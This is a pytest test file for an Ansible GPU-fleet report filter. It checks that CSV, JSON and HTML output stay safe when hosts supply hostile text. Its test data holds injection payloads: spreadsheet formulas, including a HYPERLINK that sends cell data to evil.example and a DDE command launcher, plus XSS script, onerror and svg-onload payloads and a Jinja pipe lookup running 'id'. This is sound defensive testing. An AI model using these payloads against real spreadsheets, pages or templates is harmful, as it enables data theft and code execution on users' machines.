# Copyright (c) gpuhost.nvidia contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The fleet report against hostile hosts: a host controls its GPU names, driver strings, doctor evidence and error
text, and the inventory controls host names.

Each rendering is checked the way its reader reads it: the CSV parsed back with Python's csv module (and no cell may
start with a character a spreadsheet runs as a formula, per OWASP's CSV Injection page), the JSON with a strict parser
(no NaN or Infinity), and the HTML with an HTML parser (no element or event attribute a host put there).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import typing as t
from collections import Counter
from html.parser import HTMLParser

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.gpuhost.nvidia.plugins.filter.report import gpu_fleet_report
from ansible_collections.gpuhost.nvidia.plugins.module_utils import _report

from .fleet import fleet

# What OWASP lists as the first character of a cell a spreadsheet runs (=, +, -, @, tab, CR, LF), NUL, and the
# full-width forms; a cell may not start with any of them, nor with whitespace.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HOSTILE_TEXT = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\x00=1+2",
    " =1+2",
    "\u3000=1+2",
    "\uff1d1+2",
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "NVIDIA H100\r=HYPERLINK(\"x\")",
    "a\rb,c\r\n=1,2\n@x",
    "forged\rhost,ok,0,NVIDIA,80",
    "x\u2028=1\u2029y",
    "\x1b[31mred\x1b[0m",
    "\x85next line",
    "\ud800lone surrogate",
    "'already quoted",
    '"double" "quotes"',
    "comma, separated; semi",
    "-",
    "@",
    "=",
    "x" * 20000,
]

# Every place a host's text reaches the report.
FIELDS: dict[str, t.Callable[[dict[str, t.Any], t.Any], None]] = {
    "host": lambda e, v: e.__setitem__("host", v),
    "gpu.name": lambda e, v: e["facts"]["gpus"][0].__setitem__("name", v),
    "gpu.pci_bus_id": lambda e, v: e["facts"]["gpus"][0].update(index=None, pci_bus_id=v),
    "gpu.pci_device_id": lambda e, v: e["facts"]["gpus"][0].update(name=None, pci_device_id=v, architecture=v),
    "gpu.bound_driver": lambda e, v: e["facts"]["gpus"][0].__setitem__("bound_driver", v),
    "gpu.mig": lambda e, v: e["facts"]["gpus"][0].__setitem__("mig", {"current": v, "pending": v}),
    "driver.version": lambda e, v: e["facts"]["driver"].__setitem__("version", v),
    "driver.cuda_version": lambda e, v: e["facts"]["driver"].__setitem__("cuda_version", v),
    "doctor.check.id": lambda e, v: e["doctor"]["checks"].append({"id": v, "status": "warn"}),
    "doctor.check.status": lambda e, v: e["doctor"]["checks"].append({"id": "x", "status": v}),
    "error": lambda e, v: e.update(status="failed", error=v),
    "unreachable error": lambda e, v: e.update(status="unreachable", error=v),
}


def good_host(name: str = "good1", gpus: int = 2) -> dict[str, t.Any]:
    return {"host": name, "status": "ok",
            "facts": {"driver": {"version": "580.65.06", "cuda_version": "13.0"}, "reboot_required": False,
                      "gpus": [{"index": i, "name": "NVIDIA L4", "memory_total_mib": 23034, "bound_driver": "nvidia",
                                "pci_bus_id": f"0000:{i + 1:02x}:00.0", "mig": {"current": "Disabled", "pending": "Disabled"}}
                               for i in range(gpus)]},
            "doctor": {"status": "ok", "checks": [{"id": "driver_loaded", "status": "ok"}]}}


def strict_json(text: str) -> t.Any:
    def refuse(constant: str) -> t.NoReturn:
        raise AssertionError(f"not strict JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def parse_csv(text: str) -> list[list[str]]:
    """The CSV as Python's csv module reads it, after the checks a spreadsheet user relies on."""
    lines = text.split("\n")
    assert lines[-1] == "" and all(line.startswith('"') and line.endswith('"') for line in lines[:-1]), "every field quoted"
    assert "\r" not in text, "a CR inside a cell would start a new row in some readers"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(lines) - 1, "one physical line per row: no cell holds a line break"
    for row in rows:
        assert len(row) == len(_report.COLUMNS)
        for cell in row:
            assert not cell.startswith(FORMULA), f"formula cell {cell[:40]!r}"
            assert cell == cell.lstrip() or cell == "", f"cell starts with whitespace: {cell[:40]!r}"
    return rows


class Tags(HTMLParser):
    """The elements of a page and the attributes that could run or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.active: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.active += [(tag, name, value) for name, value in attrs
                        if name.lower().startswith("on") or name.lower() in ("src", "href", "srcdoc", "action", "formaction")]


def tags_of(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    parser.close()
    return parser


# The page's own markup, from a fleet of ordinary hosts: a hostile value may add rows, bars and cells, never elements
# of another kind, a second script, or an attribute that runs or loads something.
BASELINE = tags_of(_report.report_html(_report.fleet_report(fleet(40), "t")))


def assert_no_markup_from_hosts(page: str) -> None:
    found = tags_of(page)
    assert set(found.tags) <= set(BASELINE.tags), set(found.tags) - set(BASELINE.tags)
    assert (found.tags["script"], found.tags["style"], found.tags["svg"], found.tags["html"]) == (1, 1, 4, 1)
    assert found.active == [], found.active


def renderings(entries: list[t.Any], names: list[str] | None = None) -> tuple[dict[str, t.Any], list[list[str]], t.Any, str]:
    """The four forms of one report, each checked by its own reader."""
    report = gpu_fleet_report(entries, "t", names=names)
    rows = parse_csv(gpu_fleet_report(entries, "t", "csv", names=names))
    data = strict_json(gpu_fleet_report(entries, "t", "json", names=names))
    page = gpu_fleet_report(entries, "t", "html", names=names)
    assert data["rows"] == json.loads(json.dumps(report["rows"]))
    assert len(rows) == len(report["rows"]) + 1
    return report, rows, data, page


@pytest.mark.parametrize("field", sorted(FIELDS))
@pytest.mark.parametrize("value", HOSTILE_TEXT, ids=[f"text{i}" for i in range(len(HOSTILE_TEXT))])
def test_hostile_text_stays_text_in_every_form(field, value):
    entry = good_host("target")
    FIELDS[field](entry, value)
    report, rows, _data, page = renderings([entry, good_host("good1")])
    assert {r["host"] for r in report["rows"]} >= {"good1"}
    assert sum(1 for r in report["rows"] if r["host"] == "good1") == 2, "the other host is still written"
    assert all(r["status"] != _report.MALFORMED for r in report["rows"]), "text is not malformed"
    # What the host said is kept, cut and on one line, after the neutralising quote.
    for row in rows[1:]:
        for cell in row:
            body = cell[1:] if cell.startswith("'") else cell
            assert len(body) <= 4000
    assert_no_markup_from_hosts(page)


@pytest.mark.parametrize("value", HOSTILE_TEXT, ids=[f"text{i}" for i in range(len(HOSTILE_TEXT))])
def test_csv_cell_neutralises_and_keeps_the_value(value):
    cell = _report.csv_cell(value)
    assert not cell.startswith(FORMULA) and "\r" not in cell and "\n" not in cell
    cleaned = _report.clean_text(value, 4000)
    assert cell in (cleaned, "'" + cleaned)
    assert (cell == "'" + cleaned) == (cleaned[:1] in _report.FORMULA_START or cleaned[:1].isspace())


def test_owasp_examples():
    """The two examples on OWASP's CSV Injection page: quoted, the quote doubled, a leading ' (docs/sources.md)."""
    out = _report.report_csv({"rows": [{"host": '=1+2";=1+2', "model": "=1+2'\" ;,=1+2"}]})
    line = out.splitlines()[1]
    assert line.startswith('"\'=1+2"";=1+2","",') and '"\'=1+2\'"" ;,=1+2"' in line


HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "</td></tr></tbody></table><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</text><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<!--",
    "]]><script>alert(1)</script>",
    "{{ lookup('ansible.builtin.pipe', 'id') }}",
    "{% for x in range(9) %}x{% endfor %}",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("value", HTML_PAYLOADS, ids=[f"html{i}" for i in range(len(HTML_PAYLOADS))])
def test_html_keeps_script_attribute_svg_and_jinja_payloads_as_text(value):
    hosts = [good_host("target"), good_host("good1")]
    for field in ("host", "gpu.name", "driver.version", "doctor.check.id"):
        FIELDS[field](hosts[0], value)
    hosts.append({"host": "broken", "status": "failed", "error": value})
    page = gpu_fleet_report(hosts, value, "html", title=value)
    assert_no_markup_from_hosts(page)
    assert "<script>alert" not in page and "<svg onload" not in page and "<img" not in page and "<iframe" not in page
    # Jinja is not run: the text reaches the page as text (escaped, so quotes read &#x27;).
    if value.startswith(("{{", "{%")):
        assert value.replace("'", "&#x27;") in page


# --- entries, facts and doctor results of the wrong shape -----------------------------------------------------------
def _set(path: str, value: t.Any) -> t.Callable[[dict[str, t.Any]], t.Any]:
    def apply(entry: dict[str, t.Any]) -> t.Any:
        keys = path.split(".")
        target: t.Any = entry
        for key in keys[:-1]:
            target = target[int(key)] if isinstance(target, list) else target[key]
        if isinstance(target, list):
            target[int(keys[-1])] = value
        else:
            target[keys[-1]] = value
        return entry

    return apply


MALFORMED_CASES: list[tuple[str, t.Callable[[dict[str, t.Any]], t.Any], str]] = [
    ("entry is a string", lambda e: "gpu1 says hello", "entry is a string"),
    ("entry is a number", lambda e: 42, "entry is an integer"),
    ("entry is a list", lambda e: [e], "entry is a list"),
    ("entry is true", lambda e: True, "entry is a boolean"),
    ("status unknown", _set("status", "rebooting"), "status 'rebooting'"),
    ("status number", _set("status", 7), "status '7'"),
    ("status list", _set("status", ["ok"]), "status is a list"),
    ("host mapping", _set("host", {"a": 1}), "host is a mapping"),
    ("host list", _set("host", ["gpu1"]), "host is a list"),
    ("facts string", _set("facts", "{'gpus': []}"), "facts is a string"),
    ("facts number", _set("facts", 3), "facts is an integer"),
    ("facts list", _set("facts", [{"gpus": []}]), "facts is a list"),
    ("facts true", _set("facts", True), "facts is a boolean"),
    ("gpus string", _set("facts.gpus", "GPU 0"), "facts.gpus is a string"),
    ("gpus mapping", _set("facts.gpus", {"0": {}}), "facts.gpus is a mapping"),
    ("gpus number", _set("facts.gpus", 8), "facts.gpus is an integer"),
    ("gpus hold a null", _set("facts.gpus.1", None), "facts.gpus[1] is null"),
    ("gpus hold a string", _set("facts.gpus.0", "NVIDIA L4"), "facts.gpus[0] is a string"),
    ("gpus hold a number", _set("facts.gpus.0", 0), "facts.gpus[0] is an integer"),
    ("gpus hold a list", _set("facts.gpus.0", [1]), "facts.gpus[0] is a list"),
    ("driver string", _set("facts.driver", "580.65.06"), "facts.driver is a string"),
    ("driver list", _set("facts.driver", ["580"]), "facts.driver is a list"),
    ("driver version list", _set("facts.driver.version", ["580"]), "facts.driver.version is a list"),
    ("driver version mapping", _set("facts.driver.version", {"v": 1}), "facts.driver.version is a mapping"),
    ("gpu name list", _set("facts.gpus.0.name", ["x"]), "facts.gpus[0].name is a list"),
    ("gpu name mapping", _set("facts.gpus.0.name", {"=1": 1}), "facts.gpus[0].name is a mapping"),
    ("gpu mig list", _set("facts.gpus.0.mig", ["Enabled"]), "facts.gpus[0].mig is a list"),
    ("gpu binding list", _set("facts.gpus.0.bound_driver", ["nvidia"]), "facts.gpus[0].bound_driver is a list"),
    ("doctor string", _set("doctor", "all good"), "doctor is a string"),
    ("doctor list", _set("doctor", [{"status": "ok"}]), "doctor is a list"),
    ("doctor number", _set("doctor", 0), "doctor is an integer"),
    ("doctor status list", _set("doctor.status", ["ok"]), "doctor.status is a list"),
    ("doctor status mapping", _set("doctor.status", {"ok": True}), "doctor.status is a mapping"),
    ("doctor checks string", _set("doctor.checks", "driver_loaded: ok"), "doctor.checks is a string"),
    ("doctor checks mapping", _set("doctor.checks", {"id": "x"}), "doctor.checks is a mapping"),
    ("doctor checks hold a null", _set("doctor.checks.0", None), "doctor.checks[0] is null"),
    ("doctor checks hold a string", _set("doctor.checks.0", "fail"), "doctor.checks[0] is a string"),
    ("doctor check status list", _set("doctor.checks.0.status", ["fail"]), "doctor.checks[0].status is a list"),
]


@pytest.mark.parametrize("case", MALFORMED_CASES, ids=[c[0] for c in MALFORMED_CASES])
@pytest.mark.parametrize("with_names", [True, False], ids=["names", "no-names"])
def test_one_malformed_host_never_kills_the_report(case, with_names):
    _name, breaks, reason = case
    bad = breaks(good_host("bad1"))
    entries = [good_host("good1"), bad, good_host("good2", gpus=1)]
    names = ["good1", "bad1", "good2"] if with_names else None
    report, rows, data, page = renderings(entries, names)
    listed = [r for r in report["rows"] if r["status"] == _report.MALFORMED]
    assert len(listed) == 1, report["rows"]
    row = listed[0]
    assert row["problems"].startswith("malformed facts: ") and reason in row["problems"], row["problems"]
    assert row["health"] == "malformed facts" and row["kind"] == "host" and row["gpu"] == ""
    if with_names or isinstance(bad, dict) and isinstance(bad.get("host"), str):
        assert row["host"] == "bad1"
    # Every other host is written in full, and the malformed one is counted as a problem, in the chart too.
    assert [(r["host"], r["gpu"]) for r in report["rows"] if r["host"].startswith("good")] == [
        ("good1", 0), ("good1", 1), ("good2", 0)]
    assert report["counts"] == {"hosts": 3, "gpus": 3, "problem_hosts": 1}
    assert report["charts"]["doctor_status"] == {"malformed facts": 1, "ok": 2}
    assert report["rows"][0]["status"] == _report.MALFORMED, "problems first"
    assert data["counts"] == report["counts"]
    assert [r[1] for r in rows[1:]].count("malformed facts") == 1
    assert 'data-status="malformed facts"' in page and "<option>malformed facts</option>" in page


def test_every_kind_of_malformed_host_at_once_among_a_thousand():
    hosts = fleet(1000)
    readable = [i for i, host in enumerate(hosts) if host["status"] == "ok" and len(host["facts"]["gpus"]) > 1]
    for i, (_name, breaks, _reason) in enumerate(MALFORMED_CASES):
        hosts[readable[i * 7]] = breaks(copy.deepcopy(hosts[readable[i * 7]]))
    names = [f"gpu{i + 1:04d}.example.net" for i in range(1000)]
    report = gpu_fleet_report(hosts, "t", names=names)
    assert report["counts"]["hosts"] == 1000
    assert report["charts"]["doctor_status"]["malformed facts"] == len(MALFORMED_CASES)
    assert sum(report["charts"]["doctor_status"].values()) == 1000
    parse_csv(gpu_fleet_report(hosts, "t", "csv", names=names))
    strict_json(gpu_fleet_report(hosts, "t", "json", names=names))


# --- numbers where text is expected, NaN and Infinity, unknown doctor statuses --------------------------------------
NAN, INF = float("nan"), float("inf")

NUMBER_CASES: list[tuple[str, t.Callable[[dict[str, t.Any]], t.Any], dict[str, t.Any]]] = [
    ("name number", _set("facts.gpus.0.name", 4090), {"model": "4090"}),
    ("name float", _set("facts.gpus.0.name", 1.5), {"model": "1.5"}),
    ("name NaN", _set("facts.gpus.0.name", NAN), {"model": "nan"}),
    ("name Infinity", _set("facts.gpus.0.name", -INF), {"model": "-inf"}),
    ("name true", _set("facts.gpus.0.name", True), {"model": "true"}),
    ("driver float", _set("facts.driver.version", 580.65), {"driver": "580.65"}),
    ("driver NaN", _set("facts.driver.version", NAN), {"driver": "nan"}),
    ("cuda float", _set("facts.driver.cuda_version", 13.0), {"cuda": "13.0"}),
    ("memory NaN", _set("facts.gpus.0.memory_total_mib", NAN), {"memory_gib": ""}),
    ("memory Infinity", _set("facts.gpus.0.memory_total_mib", INF), {"memory_gib": ""}),
    ("memory -Infinity", _set("facts.gpus.0.memory_total_mib", -INF), {"memory_gib": ""}),
    ("memory negative", _set("facts.gpus.0.memory_total_mib", -1024), {"memory_gib": ""}),
    ("memory text", _set("facts.gpus.0.memory_total_mib", "=1+2"), {"memory_gib": ""}),
    ("memory true", _set("facts.gpus.0.memory_total_mib", True), {"memory_gib": ""}),
    ("memory huge", _set("facts.gpus.0.memory_total_mib", 1e308), {}),
    ("index NaN", _set("facts.gpus.0.index", NAN), {"gpu": "0000:01:00.0"}),
    ("index negative", _set("facts.gpus.0.index", -1), {"gpu": "0000:01:00.0"}),
    ("index true", _set("facts.gpus.0.index", True), {"gpu": "0000:01:00.0"}),
    ("index text", _set("facts.gpus.0.index", "=1"), {"gpu": "0000:01:00.0"}),
    ("mig number", _set("facts.gpus.0.mig", 1), {"mig": "1"}),
    ("check status number", _set("doctor.checks.0.status", 3), {"problems": "driver_loaded: 3"}),
    ("check id number", _set("doctor.checks.0", {"id": 12, "status": "warn"}), {"problems": "12: warn"}),
]


@pytest.mark.parametrize("case", NUMBER_CASES, ids=[c[0] for c in NUMBER_CASES])
def test_numbers_nan_and_infinity_neither_crash_nor_vanish(case):
    _name, change, expect = case
    entry = change(good_host("odd"))
    report, _rows, data, _page = renderings([entry, good_host("good1")])
    row = next(r for r in report["rows"] if r["host"] == "odd" and r["gpu"] in (0, "0000:01:00.0"))
    assert row["status"] == "ok" and {k: row[k] for k in expect} == expect
    # Nothing vanished from the charts: every GPU and every host is counted.
    assert sum(report["charts"]["gpus_by_model"].values()) == report["counts"]["gpus"] == 4
    assert sum(report["charts"]["doctor_status"].values()) == 2
    assert sum(report["charts"]["driver_versions"].values()) == 2
    assert data["counts"] == report["counts"]


def test_json_has_no_nan_even_from_a_report_built_elsewhere():
    text = _report.report_json({"rows": [{"memory_gib": NAN, "x": [INF, -INF, 1.5]}]})
    assert strict_json(text) == {"rows": [{"memory_gib": None, "x": [None, None, 1.5]}]}


UNKNOWN_DOCTOR = [
    ("weird", "doctor status 'weird'"),
    ("OK", "doctor status 'OK'"),
    ("", "doctor status ''"),
    (5, "doctor status '5'"),
    (NAN, "doctor status 'nan'"),
    (None, "doctor status ''"),
    ("fail\r=1+2", "doctor status 'fail =1+2'"),
]


@pytest.mark.parametrize("status, problem", UNKNOWN_DOCTOR, ids=[repr(s) for s, _p in UNKNOWN_DOCTOR])
def test_unknown_doctor_status_is_a_problem_shown_in_the_chart(status, problem):
    entry = good_host("odd")
    entry["doctor"]["status"] = status
    report, rows, _data, page = renderings([good_host("good1"), entry])
    odd = [r for r in report["rows"] if r["host"] == "odd"]
    assert {r["status"] for r in odd} == {"unknown"} and {r["health"] for r in odd} == {"unknown"}
    assert problem in odd[0]["problems"]
    assert report["charts"]["doctor_status"] == {"unknown": 1, "ok": 1}
    assert report["counts"]["problem_hosts"] == 1 and report["rows"][0]["host"] == "odd"
    assert 'data-status="unknown"' in page and rows[1][1] == "unknown"


def test_a_missing_doctor_result_is_unknown_not_ok():
    entry = good_host("odd")
    del entry["doctor"]
    report = gpu_fleet_report([entry])
    assert {r["status"] for r in report["rows"]} == {"unknown"} and report["rows"][0]["problems"] == "no doctor result"


@pytest.mark.parametrize("value, kind", [("no", "a string"), (1, "an integer"), (0, "an integer"), (NAN, "a number"), ([], "a list")])
def test_a_reboot_flag_that_is_not_true_or_false_is_unknown(value, kind):
    entry = good_host("odd")
    entry["facts"]["reboot_required"] = value
    report = gpu_fleet_report([entry, good_host("good1")])
    odd = [r for r in report["rows"] if r["host"] == "odd"]
    assert len(odd) == 2 and {r["reboot"] for r in odd} == {"unknown"} and {r["status"] for r in odd} == {"ok"}
    assert f"facts.reboot_required is {kind}, not true or false" in odd[0]["problems"]
    assert report["charts"]["reboot"] == {"unknown": 1, "no reboot needed": 1}
    strict_json(gpu_fleet_report([entry], form="json"))


def test_failed_host_without_an_error_says_so():
    report = gpu_fleet_report([{"host": "x", "status": "failed"}, {"host": "y", "status": "failed", "error": ""}])
    assert [r["problems"] for r in report["rows"]] == ["failed, no error message"] * 2


@pytest.mark.parametrize("hosts, names, match", [
    ("not a list", None, "expects a list"),
    ({"host": "a"}, None, "expects a list"),
    (None, None, "expects a list"),
    (5, None, "expects a list"),
    ([{"host": "a"}], ["a", "b"], "one inventory name per entry"),
    ([{"host": "a"}], "a", "one inventory name per entry"),
    ([{"host": "a"}], {"a": 1}, "one inventory name per entry"),
])
def test_only_the_call_itself_is_refused(hosts, names, match):
    with pytest.raises(AnsibleFilterError, match=match):
        gpu_fleet_report(hosts, names=names)


@pytest.mark.parametrize("form", ["pdf", "", None, ["csv"], 1, "CSV", "csv\n"])
def test_unknown_forms_are_refused(form):
    with pytest.raises(AnsibleFilterError, match="form must be one of"):
        gpu_fleet_report([good_host()], form=form)
